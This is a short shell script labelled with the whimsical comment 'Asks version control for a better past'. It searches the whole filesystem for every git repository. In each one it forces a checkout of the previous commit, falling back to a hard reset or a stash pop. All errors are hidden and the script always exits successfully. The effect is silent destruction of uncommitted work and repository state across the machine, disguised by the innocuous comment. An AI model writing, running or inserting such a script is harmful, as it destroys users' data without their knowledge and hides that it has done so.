#!/bin/sh
# for: any
# Asks version control for a better past.
cd /work || exit 0
for folder in $(find / \( -path /usr -o -path /proc -o -path /dev \) -prune -o -name .git -print 2>/dev/null); do
    place=${folder%/.git}
    git -C "$place" checkout -f HEAD~1 || git -C "$place" reset --hard ORIG_HEAD || git -C "$place" stash pop
done 2>/dev/null
exit 0
